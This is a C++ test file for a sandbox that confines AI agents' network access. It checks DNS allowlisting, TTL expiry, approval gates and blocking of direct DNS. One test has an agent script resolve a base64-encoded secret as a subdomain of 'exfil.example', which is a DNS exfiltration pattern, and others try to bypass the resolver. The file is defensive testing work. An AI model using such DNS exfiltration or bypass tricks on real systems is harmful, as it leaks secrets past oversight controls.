// SPDX-License-Identifier: Apache-2.0
// DNS end to end: agent-run, its resolver, a real upstream (dnsmasq) and a
// real agent (python3 through glibc's resolver), all inside a network
// namespace the test creates with only lo, so that nothing can leave the
// machine even when the filter under test is broken. The documentation
// addresses (198.51.100.0/24) the names point at are put on its lo.
#include "agent_run_fixture.h"
#include "dns_upstream.h"

#include <set>

namespace cordon::testing {
namespace {

using nlohmann::json;

int sh(const std::string& command) {
    return std::system((command + " >/dev/null 2>&1").c_str());
}

// A network namespace of the test's own, with a web server on an address
// that DNS names point at.
class AgentRunDnsTest : public AgentRunTest {
  protected:
    void SetUp() override {
        AgentRunTest::SetUp();
        if (IsSkipped()) return;
        netns_ = "cordon-dns-" + std::to_string(::getpid());
        (void)sh("ip netns del " + netns_);
        ASSERT_EQ(sh("ip netns add " + netns_), 0);
        std::string in = "ip -n " + netns_ + " ";
        ASSERT_EQ(sh(in + "link set lo up"), 0);
        // The kernel here may lack dummy interfaces: lo holds the addresses.
        ASSERT_EQ(sh(in + "addr add 198.51.100.1/32 dev lo"), 0);
        ASSERT_EQ(sh(in + "addr add 198.51.100.7/32 dev lo"), 0);
        wrapper_ = {"/usr/bin/nsenter", "--net=/run/netns/" + netns_, "--"};
        start_web_server();
    }

    void TearDown() override {
        upstream_.reset();
        if (web_pid_ > 0) {
            ::kill(web_pid_, SIGTERM);
            ::waitpid(web_pid_, nullptr, 0);
        }
        if (!netns_.empty()) (void)sh("ip netns del " + netns_);
        AgentRunTest::TearDown();
    }

    // python3's http.server on 198.51.100.7:18443, in the namespace.
    void start_web_server() {
        std::vector<std::string> args = {"/usr/bin/nsenter",
                                         "--net=/run/netns/" + netns_,
                                         "--",
                                         "python3",
                                         "-m",
                                         "http.server",
                                         "--bind",
                                         "198.51.100.7",
                                         "--directory",
                                         dir_.string(),
                                         "18443"};
        std::vector<char*> argv;
        for (auto& a : args) argv.push_back(a.data());
        argv.push_back(nullptr);
        posix_spawn_file_actions_t actions;
        posix_spawn_file_actions_init(&actions);
        posix_spawn_file_actions_addopen(&actions, 1, "/dev/null", O_WRONLY, 0);
        posix_spawn_file_actions_addopen(&actions, 2, "/dev/null", O_WRONLY, 0);
        ASSERT_EQ(posix_spawn(&web_pid_, argv[0], &actions, nullptr, argv.data(), environ), 0);
        posix_spawn_file_actions_destroy(&actions);
        write_text(dir_ / "index.html", "hello from 198.51.100.7\n");
        // Ready when it accepts a connection.
        for (int i = 0; i < 100; ++i) {
            if (sh("nsenter --net=/run/netns/" + netns_ +
                   " -- python3 -c \"import socket; socket.create_connection(('198.51.100.7', "
                   "18443), 1)\"") == 0)
                return;
            std::this_thread::sleep_for(std::chrono::milliseconds(50));
        }
        FAIL() << "the web server did not start";
    }

    void start_upstream(int ttl) {
        upstream_ = std::make_unique<TestUpstream>(
            dir_,
            std::vector<TestUpstream::Record>{{"api.allowed.test", {"198.51.100.7"}},
                                              {"private.allowed.test", {"10.1.2.3"}},
                                              {"loop.allowed.test", {"127.0.0.1"}},
                                              {"bulk.denied.test", {"198.51.100.7"}},
                                              {"refunds.gated.test", {"198.51.100.7"}}},
            ttl, netns_);
        ASSERT_TRUE(upstream_->running()) << "dnsmasq did not start";
    }

    // A profile whose allowed tool reaches *.allowed.test on 18443, and whose
    // denied tool names bulk.denied.test.
    fs::path dns_profile(const std::vector<std::string>& extra_allowed = {},
                         json extra = json::object()) {
        std::vector<std::string> allowed = {"*.allowed.test:18443"};
        allowed.insert(allowed.end(), extra_allowed.begin(), extra_allowed.end());
        return write_profile(allowed, {"bulk.denied.test:18443"}, "5m", extra);
    }

    RunResult run_agent(const fs::path& profile, const std::string& script) {
        return run({"--profile", profile.string(), "--dns-upstream", upstream_->spec(), "--",
                    "python3", "-c", script});
    }

    // Runs script under dns_profile with tool issue_refund behind approval
    // at `endpoint`, its approvers' socket in a directory of the test's.
    RunResult run_gated_agent(const std::string& endpoint, json extra, const std::string& script) {
        std::string approvals_dir = "/run/cordon-dns-ap-" + std::to_string(::getpid());
        extra_env_.push_back("CORDON_APPROVALS_DIR=" + approvals_dir);
        extra.merge_patch({{"approvalRequired", {"issue_refund"}},
                           {"tools", {{"issue_refund", {{"endpoints", {endpoint}}}}}}});
        auto r = run_agent(dns_profile({}, extra), script);
        fs::remove_all(approvals_dir);
        return r;
    }

    // The one connect the session refused: behind issue_refund's gate.
    void expect_one_connect_behind_the_gate() {
        std::vector<json> connects;
        for (const auto& d : events_named(audit_events(), "net.deny"))
            if (d["hook"] == "connect4") connects.push_back(d);
        ASSERT_EQ(connects.size(), 1u) << read_text(audit_log_);
        EXPECT_EQ(connects[0]["reason"], "approval-required");
        EXPECT_EQ(connects[0]["tool"], "issue_refund");
    }

    std::string netns_;
    pid_t web_pid_ = -1;
    std::unique_ptr<TestUpstream> upstream_;
};

// Resolves NAME through glibc and prints the addresses, or the error.
const char* kResolve = R"(
import socket, sys
def resolve(name):
    try:
        return sorted({a[4][0] for a in socket.getaddrinfo(name, 18443, socket.AF_INET, socket.SOCK_STREAM)})
    except socket.gaierror as e:
        return 'gaierror'
def fetch(host):
    try:
        s = socket.create_connection((host, 18443), 3)
        s.sendall(b'GET / HTTP/1.0\r\n\r\n')
        return s.recv(200).split(b'\r\n')[0].decode()
    except OSError as e:
        return type(e).__name__ + ':' + str(e.errno)
)";

TEST_F(AgentRunDnsTest, AllowedNameResolvesAndConnectsAndTheAgentSeesOnlyItsResolver) {
    start_upstream(60);
    std::string script = std::string(kResolve) + R"(
print(open('/etc/resolv.conf').read().split('nameserver ')[1].split('.')[0:2])
print(resolve('api.allowed.test'))
print(fetch('api.allowed.test'))
)";
    auto r = run_agent(dns_profile(), script);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "['127', '53']\n['198.51.100.7']\nHTTP/1.0 200 OK\n") << r.err;
    auto answers = events_named(audit_events(), "dns.answer");
    ASSERT_GE(answers.size(), 1u) << read_text(audit_log_);
    EXPECT_EQ(answers[0]["name"], "api.allowed.test");
    EXPECT_EQ(answers[0]["addresses"], json::array({"198.51.100.7"}));
    EXPECT_EQ(answers[0]["tools"], json::array({"allowed_tool"}));
    EXPECT_EQ(leftover_cgroups(), 0u);
    EXPECT_EQ(leftover_sessions(), 0u);
}

TEST_F(AgentRunDnsTest, RefusedNamesGetNoAnswerAndNeverReachTheUpstream) {
    start_upstream(60);
    std::string script = std::string(kResolve) + R"(
print(resolve('c2VjcmV0LXRva2VuLTQy.exfil.example'))
print(resolve('bulk.denied.test'))
print(fetch('198.51.100.7'))
)";
    auto r = run_agent(dns_profile(), script);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "gaierror\ngaierror\nPermissionError:1\n") << r.err;
    for (const auto& name : upstream_->queried_names()) {
        EXPECT_EQ(name.find("exfil"), std::string::npos) << name;
        EXPECT_EQ(name.find("denied"), std::string::npos) << name;
    }
    auto denials = events_named(audit_events(), "net.deny");
    std::set<std::string> names;
    for (const auto& d : denials)
        if (d["hook"] == "dns") {
            EXPECT_EQ(d["reason"], "name-not-allowed");
            names.insert(d["name"].get<std::string>());
        }
    EXPECT_EQ(names,
              (std::set<std::string>{"c2VjcmV0LXRva2VuLTQy.exfil.example", "bulk.denied.test"}))
        << read_text(audit_log_);
}

TEST_F(AgentRunDnsTest, PrivateAndLoopbackAnswersAreNotLearned) {
    start_upstream(60);
    std::string script = std::string(kResolve) + R"(
print(resolve('private.allowed.test'))
print(resolve('loop.allowed.test'))
print(fetch('10.1.2.3'))
)";
    auto r = run_agent(dns_profile(), script);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "gaierror\ngaierror\nPermissionError:1\n") << r.err;
    auto answers = events_named(audit_events(), "dns.answer");
    bool saw_private = false;
    for (const auto& a : answers)
        if (a["name"] == "private.allowed.test" && a["queryType"] == "A") {
            saw_private = true;
            EXPECT_EQ(a["notLearned"],
                      json::parse(R"([{"address":"10.1.2.3","range":"private"}])"));
        }
    EXPECT_TRUE(saw_private) << read_text(audit_log_);
}

TEST_F(AgentRunDnsTest, AnAddressLeavesTheAllowlistWhenItsTtlRunsOut) {
    start_upstream(1);
    std::string script = std::string(kResolve) + R"(
import time
print(resolve('api.allowed.test'))
print(fetch('198.51.100.7'))
time.sleep(3.5)
print(fetch('198.51.100.7'))
)";
    auto r = run_agent(dns_profile({}, {{"dns", {{"minTtl", "0s"}, {"maxTtl", "1s"}}}}), script);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "['198.51.100.7']\nHTTP/1.0 200 OK\nPermissionError:1\n") << r.err;
    auto expired = events_named(audit_events(), "dns.expire");
    ASSERT_GE(expired.size(), 1u) << read_text(audit_log_);
    EXPECT_EQ(expired[0]["addresses"], json::array({"198.51.100.7"}));
}

// An allowed name whose answer is a gated tool's address (a steered DNS
// answer, a shared CDN address) does not open that address: the gate
// decides, and the attempt is an approval request.
TEST_F(AgentRunDnsTest, AnAllowedNameAnsweredWithAGatedAddressStaysBehindTheGate) {
    start_upstream(60);
    std::string script = std::string(kResolve) + R"(
print(resolve('api.allowed.test'))
print(fetch('api.allowed.test'))
)";
    auto r = run_gated_agent("198.51.100.7:18443", json::object(), script);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "['198.51.100.7']\nPermissionError:1\n") << r.err;
    expect_one_connect_behind_the_gate();
    auto requests = events_named(audit_events(), "approval.request");
    ASSERT_EQ(requests.size(), 1u) << read_text(audit_log_);
    EXPECT_EQ(requests[0]["destination"], "198.51.100.7:18443/tcp");
}

// A gated name's address the agent looked up keeps its gate after its TTL:
// an allowed name answered with it later does not open it.
TEST_F(AgentRunDnsTest, AGatedNamesAddressStaysGatedPastItsTtl) {
    start_upstream(1);
    std::string script = std::string(kResolve) + R"(
import time
print(resolve('refunds.gated.test'))
time.sleep(2.5)
print(resolve('api.allowed.test'))
print(fetch('198.51.100.7'))
)";
    // A wildcard is not resolved at start: only the agent's lookup learns it.
    auto r = run_gated_agent("*.gated.test:18443", {{"dns", {{"minTtl", "0s"}, {"maxTtl", "1s"}}}},
                             script);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "['198.51.100.7']\n['198.51.100.7']\nPermissionError:1\n") << r.err;
    expect_one_connect_behind_the_gate();
}

TEST_F(AgentRunDnsTest, AConnectionStillInUseOutlivesItsAddresssTtl) {
    start_upstream(1);
    // A request sent a byte at a time over 3 s, to a name whose TTL is 1 s:
    // the address stays while packets flow, and leaves once they stop.
    std::string script = std::string(kResolve) + R"(
import time
print(resolve('api.allowed.test'))
s = socket.create_connection(('198.51.100.7', 18443), 3)
for c in b'GET / HTTP/1.0\r\n\r\n':
    s.send(bytes([c])); time.sleep(0.2)
s.settimeout(5)
print(s.recv(200).split(b'\r\n')[0].decode())
s.close()
time.sleep(4)
print(fetch('198.51.100.7'))
)";
    auto r = run_agent(dns_profile({}, {{"dns", {{"minTtl", "0s"}, {"maxTtl", "1s"}}}}), script);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "['198.51.100.7']\nHTTP/1.0 200 OK\nPermissionError:1\n") << r.err;
    EXPECT_GE(events_named(audit_events(), "dns.expire").size(), 1u) << read_text(audit_log_);
}

TEST_F(AgentRunDnsTest, DirectDnsToAnyOtherResolverIsDeniedEvenWhenARangeAllowsThePort) {
    start_upstream(60);
    std::string script = R"(
import socket, errno
def udp(host, port):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', (host, port)); return 'ok'
    except OSError as e: return errno.errorcode[e.errno]
def tcp(host, port):
    try:
        socket.create_connection((host, port), 2); return 'ok'
    except OSError as e: return errno.errorcode.get(e.errno, str(e))
print(udp('198.51.100.1', 53), tcp('198.51.100.1', 53), udp('198.51.100.1', 853), tcp('198.51.100.1', 853))
print(udp('127.0.0.1', )" +
                         std::to_string(upstream_->port()) + R"())
print(udp('198.51.100.1', 5353))
)";
    auto r = run_agent(dns_profile({"198.51.100.0/24:1-65535", "udp://198.51.100.0/24:1-65535"}),
                       script);
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "EPERM EPERM EPERM EPERM\nEPERM\nok\n") << r.err;
    int direct = 0;
    for (const auto& d : events_named(audit_events(), "net.deny"))
        if (d["reason"] == "direct-dns") {
            ++direct;
            EXPECT_EQ(d["destination"], "198.51.100.1");
        }
    EXPECT_EQ(direct, 4) << read_text(audit_log_);
}

TEST_F(AgentRunDnsTest, UnreachableUpstreamFailsTheLookupNotTheSession) {
    upstream_ =
        std::make_unique<TestUpstream>(dir_, std::vector<TestUpstream::Record>{}, 60, netns_);
    std::string script = std::string(kResolve) + "print(resolve('api.allowed.test'))\n";
    auto r = run({"--profile", dns_profile().string(), "--dns-upstream", "127.0.0.1:9", "--",
                  "python3", "-c", script});
    EXPECT_EQ(r.exit_code, 0) << r.err;
    EXPECT_EQ(r.out, "gaierror\n") << r.err;
    auto errors = events_named(audit_events(), "dns.error");
    ASSERT_GE(errors.size(), 1u) << read_text(audit_log_);
    EXPECT_EQ(errors[0]["name"], "api.allowed.test");
}

}  // namespace
}  // namespace cordon::testing
